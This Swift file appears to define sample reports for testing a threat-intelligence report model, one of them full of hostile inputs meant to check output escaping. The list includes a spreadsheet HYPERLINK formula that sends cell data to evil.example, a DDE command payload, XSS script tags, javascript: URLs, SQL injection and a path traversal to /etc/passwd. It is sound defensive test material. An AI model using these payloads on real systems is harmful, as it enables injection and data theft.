import DossierModel

extension SampleReports {
  /// Words that try to become markup, formulas, structure, paths or terminal commands in the output.
  public static let hostile: SampleReport = {
    let lines = [
      "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
      "\tstarts with a tab", "\rstarts with a return", "a;b,c|d\"e\"\"f", "two\nlines\r\nor three",
      "<script>alert(1)</script><img src=x onerror=alert(2)>", "</script><!-- -- >",
      "[link](javascript:alert(1))",
      "| a | table |", "`code` *bold* __bold__ ~~gone~~ # head", "no", "1e3", "0x1F", "2021-07-20", "~",
      "007",
      "key: value", "- item", "{{mustache}} {{{raw}}}", "../../etc/passwd", "C:\\nul",
      "\u{1B}[31mred\u{1B}[0m",
      "\u{0}\u{7}\u{7F}bell", "\u{202E}gnisrever\u{202C}", "e\u{301}\u{327} 👩‍👩‍👧 𝒳",
      "line\u{2028}para\u{2029}end",
      "\u{FEFF}mark", "%s%n%x", "' OR 1=1 --", "\"; DROP TABLE claims", "&amp; &lt; &#x27;",
      "digraph { a -> b }",
      "graph TD; A[\"x\"]-->B", "\\u0000 \\n \\", "]]>", "---", "...", "a\u{A0}b\u{AD}c",
    ]
    let draft = SampleDraft("s1", lines.map { "«\($0)»" }.joined(separator: "\n\n"))
    var entities: [Entity] = []
    var claims: [Claim] = []
    for (index, line) in lines.enumerated() {
      entities.append(
        Entity(
          id: "e\(index + 1)", kind: EntityKind.allCases[index % EntityKind.allCases.count], name: line,
          names: ["fr": line], aliases: [line + "2"], role: line, mentions: [draft.mention(line)]))
      claims.append(
        Claim(
          id: "c\(index + 1)", act: Act.allCases[index % Act.allCases.count],
          polarity: Act.allCases[index % Act.allCases.count] == .deny ? .deny : .affirm,
          speakers: ["e\(index + 1)"], channel: line, about: ["e\((index + 7) % lines.count + 1)"],
          level: Level.allCases[index % Level.allCases.count], proposition: Proposition(text: line),
          confidence: Confidence(words: line, level: index % 2 == 0 ? .low : nil),
          answers: index > 8 && index % 9 == 0 ? ["c\(index - 8)"] : [],
          evidence: [draft.evidence(line)], rule: "test.hostile"))
    }
    return SampleReport(
      name: "hostile",
      report: Report(
        id: "report--4c6d2b1e-0f2a-4c57-9a2e-5b7c6b0e1d05", title: lines[8], language: "en",
        created: "2024-02-01T00:00:00Z", producer: Producer(name: lines[9], kind: "unknown"),
        marking: Marking(tlp: .red),
        sources: [
          draft.source(
            lines[8], language: "en", publisher: lines[10], authors: [lines[0], lines[31]],
            url: "javascript:alert(document.domain)//\"><b>")
        ], entities: entities,
        claims: claims,
        indicators: [
          Indicator(
            id: "i1", kind: "url", value: "http://evil.example/?x=\"&A1,\"",
            mention: draft.mention("http://evil.example/"),
            role: .malicious)
        ]), texts: ["s1": draft.sourceText])
  }()

  /// Sources in several scripts and directions, and names in several languages.
  public static let languages: SampleReport = {
    let arabic = SampleDraft("s1", "قالت الوزارة إن مجموعة مجهولة تقف وراء الهجوم.\n")
    let chinese = SampleDraft("s2", "外交部发言人否认有关指控。\n")
    let russian = SampleDraft("s3", "Ведомство заявило: «атака велась с территории Нордии».\n")
    return SampleReport(
      name: "languages",
      report: Report(
        id: "report--4c6d2b1e-0f2a-4c57-9a2e-5b7c6b0e1d06", title: "هجوم على الموانئ", language: "ar",
        created: "2024-02-01T12:34:56.789Z", producer: Producer(name: "Équipe d’analyse", kind: "group"),
        marking: Marking(tlp: .amber),
        sources: [
          arabic.source("هجوم على الموانئ", language: "ar", publisher: "الجريدة", published: "2024"),
          chinese.source("外交部回应", language: "zh-Hans"), russian.source("Заявление", language: "ru"),
        ],
        entities: [
          Entity(
            id: "e1", kind: .agency, name: "Ministry",
            names: ["ar": "الوزارة", "en": "Ministry", "fr": "Ministère"],
            mentions: [arabic.mention("الوزارة")]),
          Entity(
            id: "e2", kind: .group, name: "unknown group", names: ["ar": "مجموعة مجهولة"],
            mentions: [arabic.mention("مجموعة مجهولة")]),
          Entity(id: "e3", kind: .person, name: "发言人", role: "外交部发言人", mentions: [chinese.mention("发言人")]),
          Entity(id: "e4", kind: .place, name: "Нордия", mentions: [russian.mention("Нордии")]),
        ],
        claims: [
          Claim(
            id: "c1", act: .attribute, speakers: ["e1"], about: ["e2"], level: .group,
            proposition: Proposition(text: "مجموعة مجهولة تقف وراء الهجوم"),
            evidence: [
              arabic.evidence("قالت الوزارة إن مجموعة مجهولة تقف وراء الهجوم.", speaker: ["الوزارة"])
            ],
            rule: "ar.test"),
          Claim(
            id: "c2", act: .deny, polarity: .deny, speakers: ["e3"], proposition: Proposition(text: "否认有关指控"),
            answers: ["c1"], evidence: [chinese.evidence("外交部发言人否认有关指控。", cue: ["否认"])], rule: "zh.test"),
          Claim(
            id: "c3", act: .state, speakers: [], about: ["e4"], level: .fromTerritory,
            proposition: Proposition(text: "атака велась с территории Нордии", behaviours: [.disruption]),
            quoted: true,
            evidence: [russian.evidence("Ведомство заявило: «атака велась с территории Нордии».")],
            rule: "ru.test"),
        ],
        relations: [
          Relation(id: "r1", type: .attributedTo, from: "e2", to: "e4", claims: ["c1"], disputedBy: ["c2"])
        ]),
      texts: ["s1": arabic.sourceText, "s2": chinese.sourceText, "s3": russian.sourceText])
  }()
}
